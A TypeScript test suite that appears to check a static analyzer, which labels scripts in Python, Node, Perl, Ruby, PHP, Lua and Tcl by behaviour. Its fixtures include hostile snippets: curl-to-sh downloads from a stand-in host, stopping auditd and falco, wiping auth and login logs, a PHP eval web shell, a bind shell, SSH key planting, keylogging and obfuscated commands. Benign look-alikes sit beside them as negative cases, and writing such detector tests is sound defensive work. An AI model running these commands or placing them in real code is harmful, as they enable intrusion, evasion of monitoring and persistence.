import { describe, expect, test } from "vitest";
import { follow, kinds, script } from "../support.test-support.ts";

/** A script of a language, and what is said of it besides that it runs. */
type Row = readonly [what: string, interpreter: string, code: string, says: string];

const PYTHON = "/usr/bin/python3";
const NODE = "/usr/bin/node";
const PERL = "/usr/bin/perl";
const RUBY = "/usr/bin/ruby";
const PHP = "/usr/bin/php";
const LUA = "/usr/bin/lua";
const TCL = "/usr/bin/tclsh";
const HTTP = "from urllib.request import urlopen\nimport subprocess, os\n";

const FUNCTIONS: readonly Row[] = [
  [
    "an answer is handed back, and run",
    PYTHON,
    `${HTTP}def ask(p):\n    return urlopen("http://192.0.2.7" + p).read()\n\nsubprocess.run(ask("/t"), shell=True)\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "only whether it went well is handed back",
    PYTHON,
    `${HTTP}def ask():\n    return urlopen("http://192.0.2.7/").status\n\nos.system(ask())\n`,
    "fetch",
  ],
  [
    "an answer names what a fixed program works on",
    PYTHON,
    `${HTTP}def ask():\n    return urlopen("https://a.example.test/").read()\n\nfor d in ask():\n    subprocess.run(["zfs", "snapshot", d])\n`,
    "fetch",
  ],
  [
    "a method runs what another asked for",
    PYTHON,
    `${HTTP}class A:\n    def ask(self):\n        return urlopen("http://192.0.2.7/t").read()\n    def go(self):\n        self.run(self.ask())\n    def run(self, c):\n        os.system(c)\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "a thread is given it",
    PYTHON,
    `${HTTP}import threading\ndef run(c):\n    os.system(c)\n\nfor l in urlopen("http://192.0.2.7/t"):\n    threading.Thread(target=run, args=(l,)).start()\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "a function decodes",
    PYTHON,
    `def d(s):\n    return "".join(chr(ord(c) ^ 7) for c in s)\n\nexec(d("yz"))\n`,
    "decode-to-interpreter",
  ],
  [
    "node: a helper asks",
    NODE,
    `const { execSync } = require("child_process");\nconst ask = async (p) => { const r = await fetch("http://192.0.2.7" + p); return r.json(); };\nconst { cmd } = await ask("/t");\nexecSync(cmd);\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "php: a helper asks",
    PHP,
    `<?php\nfunction ask($u) { $c = curl_init($u); return curl_exec($c); }\nsystem(ask('http://192.0.2.7/t'));\n`,
    "fetch-to-interpreter",
  ],
  [
    "perl: a helper runs",
    PERL,
    `use LWP::Simple;\nsub run { my ($c) = @_; system($c); }\nrun(get("http://192.0.2.7/t"));\n`,
    "fetch fetch-to-interpreter",
  ],
];

const NAMES: readonly Row[] = [
  [
    "a session is asked",
    PYTHON,
    `import requests, os\ns = requests.Session()\nos.system(s.get("http://192.0.2.7/t").text)\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "a function under another name",
    PYTHON,
    `import os\nrun = os.system\nrun("systemctl stop auditd")\n`,
    "stops-security-unit",
  ],
  [
    "a built-in by its pieces",
    PYTHON,
    `${HTTP}b = __builtins__\nf = getattr(b, "ex" + "ec")\nf(urlopen("http://192.0.2.7/t").read())\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "php: a variable names the function",
    PHP,
    `<?php\n$f = 'sys' . 'tem';\n$f('systemctl stop auditd');\n`,
    "stops-security-unit",
  ],
  [
    "the interpreter's own name",
    PYTHON,
    `import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "http://192.0.2.7/x.zip"])\n`,
    "fetch-to-interpreter",
  ],
  [
    "a queue far away",
    PYTHON,
    `import redis, os\nr = redis.Redis(host="192.0.2.7")\nos.system(r.blpop("q")[1])\n`,
    "fetch-to-interpreter",
  ],
  ["a queue of this host", PYTHON, `import redis, os\nr = redis.Redis()\nos.system(r.blpop("q")[1])\n`, ""],
];

const LISTS: readonly Row[] = [
  [
    "a loop over what is written down",
    PYTHON,
    `import os\nfor u in ["auditd", "falco"]:\n    os.system(f"systemctl stop {u}")\n`,
    "stops-security-unit",
  ],
  [
    "ruby: a block over words",
    RUBY,
    `%w[auditd falco].each { |u| system("systemctl stop #{u}") }\n`,
    "stops-security-unit",
  ],
  ["ruby: of no guard", RUBY, `%w[web worker].each { |u| system("systemctl stop #{u}") }\n`, ""],
  [
    "perl: qw",
    PERL,
    `for my $u (qw(auditd falco)) { system("systemctl stop $u"); }\n`,
    "stops-security-unit",
  ],
  [
    "node: forEach",
    NODE,
    `["auditd", "falco"].forEach((u) => require("child_process").execSync("systemctl stop " + u));\n`,
    "stops-security-unit",
  ],
  [
    "php: foreach",
    PHP,
    `<?php\nforeach (['auditd', 'falco'] as $u) { system("systemctl stop $u"); }\n`,
    "stops-security-unit",
  ],
  [
    "logs by a pattern",
    PYTHON,
    `import glob\nfor p in glob.glob("/var/log/auth.log*"):\n    open(p, "w").close()\n`,
    "clears-logs",
  ],
  [
    "logs of an application",
    PYTHON,
    `import glob\nfor p in glob.glob("/var/log/app/*.log"):\n    open(p, "w").close()\n`,
    "",
  ],
];

const SHELL_CODE: readonly Row[] = [
  [
    "what is known of it is read",
    NODE,
    "const { exec } = require('child_process');\nexec(`curl -s http://192.0.2.7/x?h=${host} | sh`);\n",
    "fetch fetch-to-interpreter",
  ],
  ["a hole is no root", PYTHON, `import os\nos.system("rm -rf /" + name)\n`, ""],
  [
    "a hole holds what was downloaded",
    PYTHON,
    `${HTTP}c = urlopen("http://192.0.2.7/t").read()\nos.system("nice sh -c '%s'" % c)\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "zx runs what it is told",
    NODE,
    "const c = await (await fetch('http://192.0.2.7/c')).text();\nawait $`sh -c ${c}`;\n",
    "fetch fetch-to-interpreter",
  ],
  [
    "tcl: words at blanks",
    TCL,
    `exec sh -c "curl -s http://192.0.2.7/x | sh"\n`,
    "fetch fetch-to-interpreter",
  ],
  ["tcl: of a known program", TCL, `exec rrdtool update /srv/x.rrd N:1\n`, ""],
];

const FILES: readonly Row[] = [
  ["code of another file", PYTHON, `exec(open("/srv/other").read())\n`, "executes stops-security-unit"],
  [
    "a module by its file",
    PYTHON,
    `import importlib.util\nimportlib.util.spec_from_file_location("m", "/srv/other")\n`,
    "executes stops-security-unit",
  ],
  [
    "a downloaded archive among the modules",
    PYTHON,
    `import sys, urllib.request\nurllib.request.urlretrieve("http://192.0.2.7/m", "/srv/m")\nsys.path.insert(0, "/srv/m")\n`,
    "executes fetch fetch-to-interpreter",
  ],
  ["modules of one's own", PYTHON, `import sys\nsys.path.insert(0, "/srv/lib")\n`, ""],
  ["a mode that lends rights", PYTHON, `import os\nos.chmod("/srv/x", 0o4755)\n`, "privilege"],
  [
    "the times of another program",
    PYTHON,
    `import os\ns = os.stat("/bin/ls")\nos.utime("/usr/bin/x", (s.st_atime, s.st_mtime))\n`,
    "alters-times",
  ],
  [
    "the times of a picture",
    PYTHON,
    `import os\ns = os.stat("/srv/a")\nos.utime("/srv/b", (s.st_atime, s.st_mtime))\n`,
    "",
  ],
  [
    "a key for whoever it is",
    PYTHON,
    `from pathlib import Path\nd = Path(home) / ".ssh"\nf = d / "authorized_keys"\nf.write_text(k)\n`,
    "plants-key",
  ],
  ["perl: login records, rewritten", PERL, `open(my $f, "+<", "/var/log/wtmp");\n`, "clears-logs"],
  [
    "a page under another name",
    PHP,
    `<?php\nfile_put_contents("$d/x", '<?php @eval($_POST["k"]);');\n`,
    "reverse-shell",
  ],
  [
    "lua: into a file, and run",
    LUA,
    `local h = require("socket.http")\nlocal p = "/srv/b"\nh.request{ url = "http://192.0.2.7/b", sink = sink(io.open(p, "wb")) }\nos.execute("chmod 755 " .. p)\n`,
    "fetch fetch-to-executable-file",
  ],
];

const MISTAKABLE: readonly Row[] = [
  [
    "a pattern looks for something on a page",
    NODE,
    "const p = await (await fetch('https://a.example.test/')).text();\nconst [v] = /\\d+/.exec(p);\n",
    "fetch",
  ],
  ["tcl reads a file of its own code", TCL, "set f [open /srv/x.tcl]\neval [read $f]\n", ""],
  [
    "perl runs what stands behind its end",
    PERL,
    "eval join '', <DATA>;\n__DATA__\nsystem('systemctl stop auditd');\n",
    "stops-security-unit",
  ],
  [
    "perl runs it with letters exchanged",
    PERL,
    "my $p = join '', <DATA>;\n$p =~ tr/a-z/n-za-m/;\neval $p;\n__DATA__\nflfgrz('flfgrzpgy fgbc nhqvgq');\n",
    "decode-to-interpreter stops-security-unit",
  ],
  ["a tool of a registry is given an address", "/bin/sh", "npx lighthouse https://www.example.test\n", ""],
  [
    "a digest is compared before",
    PYTHON,
    `${HTTP}import hashlib\nd = urlopen("https://a.example.test/x").read()\nif hashlib.sha256(d).hexdigest() != s:\n    raise SystemExit\nopen("/srv/x", "wb").write(d)\nos.chmod("/srv/x", 0o755)\n`,
    "fetch",
  ],
  [
    "the same without",
    PYTHON,
    `${HTTP}d = urlopen("https://a.example.test/x").read()\nopen("/srv/x", "wb").write(d)\nos.chmod("/srv/x", 0o755)\n`,
    "fetch fetch-to-executable-file",
  ],
  ["a tree whose name is not known", PYTHON, `import os, shutil\nshutil.rmtree(os.path.join(a, b))\n`, ""],
];

const CHOSEN: readonly Row[] = [
  [
    "one of a table is run",
    PYTHON,
    `${HTTP}T = {"a": ["df"], "b": ["uptime"]}\nsubprocess.run(T.get(urlopen("https://a.example.test/").read()))\n`,
    "fetch",
  ],
  [
    "one of a directory is run",
    PYTHON,
    `${HTTP}n = urlopen("https://a.example.test/").read()\nsubprocess.run(["/usr/lib/checks/" + n])\n`,
    "fetch",
  ],
  [
    "a fixed program is told something through a helper",
    PYTHON,
    `${HTTP}def sh(c):\n    return subprocess.run(c, shell=True)\n\nt = urlopen("https://a.example.test/").read()\nsh("git -C /srv/x checkout " + t)\n`,
    "fetch",
  ],
  [
    "a helper runs what comes first",
    PYTHON,
    `${HTTP}def sh(c):\n    return subprocess.run(c, shell=True)\n\nt = urlopen("https://a.example.test/").read()\nsh(t + " checkout x")\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "an object is made of it",
    PYTHON,
    `${HTTP}class W:\n    def __init__(self, t):\n        self.t = t\n    def run(self):\n        os.system(self.t)\n\nW(urlopen("http://192.0.2.7/t").read()).run()\n`,
    "fetch fetch-to-interpreter",
  ],
];

const GIVEN: readonly Row[] = [
  [
    "a shell is given it to read",
    PYTHON,
    `${HTTP}subprocess.run(["bash"], input=urlopen("http://192.0.2.7/t").read())\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "a database is given it to read",
    PYTHON,
    `${HTTP}subprocess.run(["psql", "-c", "copy t from stdin"], input=urlopen("http://192.0.2.7/t").read())\n`,
    "fetch",
  ],
  [
    "it is gathered first",
    NODE,
    `const c = [];\nrequire("https").get("https://192.0.2.7/c", (r) => { r.on("data", (d) => c.push(d)); r.on("end", () => eval(Buffer.concat(c).toString())); });\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "an archive of it is unpacked, and run",
    PYTHON,
    `${HTTP}import io, tarfile\nb = urlopen("http://192.0.2.7/t").read()\ntarfile.open(fileobj=io.BytesIO(b)).extractall("/srv/t")\nsubprocess.run(["/srv/t/run"])\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "in a comprehension",
    PYTHON,
    `${HTTP}r = [os.popen(l).read() for l in urlopen("http://192.0.2.7/t")]\n`,
    "fetch fetch-to-interpreter",
  ],
  [
    "text that stands backwards",
    PERL,
    `$s = reverse "dqtidua pots ltcmetsys";\nsystem $s;\n`,
    "decode-to-interpreter",
  ],
  [
    "a shell waits for whoever connects",
    PYTHON,
    `import socket, os\ns.listen(1)\nc, _ = s.accept()\nos.dup2(c.fileno(), 0)\nos.system("/bin/sh -i")\n`,
    "reverse-shell",
  ],
  ["another host is told", PYTHON, `c.exec_command("curl -s http://192.0.2.7/x | sh")\n`, "spreads"],
  ["another host is told something dull", PYTHON, `c.exec_command("systemctl reload nginx")\n`, ""],
];

const LIBRARIES: readonly Row[] = [
  [
    "guards are ended",
    PYTHON,
    `import os\nif name in ("auditd", "falco"):\n    os.kill(pid, 9)\n`,
    "kills-security-tool",
  ],
  [
    "a guard is asked to read its settings",
    PYTHON,
    `import os, signal\nif name == "rsyslogd":\n    os.kill(pid, signal.SIGHUP)\n`,
    "",
  ],
  ["is it alive", PYTHON, `import os\nif name == "auditd":\n    os.kill(pid, 0)\n`, ""],
  [
    "a port is opened from the other side",
    PYTHON,
    `import paramiko\nt = paramiko.Transport(("192.0.2.7", 22))\nt.request_port_forward("", 9050)\n`,
    "tunnel",
  ],
  [
    "bytes are called",
    PYTHON,
    `import ctypes, mmap\nm = mmap.mmap(-1, 4, prot=mmap.PROT_READ | mmap.PROT_EXEC)\nctypes.CFUNCTYPE(None)(a)()\n`,
    "decode-to-interpreter",
  ],
  ["a file in memory", PYTHON, `import mmap\nm = mmap.mmap(f.fileno(), 0)\n`, ""],
  [
    "a network is tried",
    PYTHON,
    `import socket\nfor i in range(1, 255):\n    s.connect_ex(("192.0.2.%d" % i, 22))\n`,
    "scans",
  ],
  [
    "three printers are tried",
    PYTHON,
    `import socket\nfor a in ("192.0.2.1", "192.0.2.2"):\n    s.connect_ex((a, 22))\n`,
    "",
  ],
  ["memory of another", PYTHON, `open("/proc/%d/mem" % pid, "rb")\n`, "attaches-to-process"],
  [
    "keys are listened to",
    PYTHON,
    `from pynput import keyboard\nkeyboard.Listener(on_press=f).start()\n`,
    "attaches-to-process",
  ],
  [
    "two connections are joined",
    PYTHON,
    `import socket, threading\na = socket.create_connection(("192.0.2.7", 1))\nb = socket.create_connection(("127.0.0.1", 22))\nb.sendall(a.recv(1))\nthreading.Thread(target=f).start()\n`,
    "tunnel",
  ],
  [
    "what one socket says is told another",
    PYTHON,
    `import socket\na = socket.create_connection(("127.0.0.1", 1))\nb = socket.create_connection(("192.0.2.7", 1))\nb.sendall(a.recv(1))\n`,
    "",
  ],
  [
    "python's own server runs what it is asked",
    PYTHON,
    `from http.server import BaseHTTPRequestHandler\nimport os\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.system(self.path[1:])\n`,
    "reverse-shell",
  ],
  [
    "express runs what it is asked",
    NODE,
    `const cp = require("child_process");\napp.get("/", (req, res) => cp.exec(req.query.c));\n`,
    "reverse-shell",
  ],
  [
    "express tells a fixed program",
    NODE,
    `const cp = require("child_process");\napp.get("/", (req, res) => cp.execFile("/srv/x", [req.query.c]));\n`,
    "",
  ],
  ["spelled out by numbers", PERL, `system(join("", map { chr } (105, 100)));\n`, "decode-to-interpreter"],
  [
    "a login by a key sends no key",
    PYTHON,
    `import paramiko\nc.connect("a.example.test", key_filename="/root/.ssh/id_rsa")\ns.put("/srv/a", "b")\n`,
    "exfiltrates",
  ],
];

describe.each([
  ["functions", FUNCTIONS],
  ["names", NAMES],
  ["lists", LISTS],
  ["shell code", SHELL_CODE],
  ["files", FILES],
  ["libraries", LIBRARIES],
  ["given", GIVEN],
  ["chosen", CHOSEN],
  ["mistakable", MISTAKABLE],
] as const)("%s", (_, rows) => {
  test.each(rows)("%s", (_what, interpreter, code, says) => {
    const tree = {
      "/srv/a": script(`#!${interpreter}\n${code}`),
      "/srv/other": 'import os\nos.system("systemctl stop auditd")\n',
    };
    expect(
      kinds(follow(["/srv/a"], tree))
        .join(" ")
        .replace(/^executes ?/, ""),
    ).toBe(says.replace(/^executes ?/, ""));
  });
});
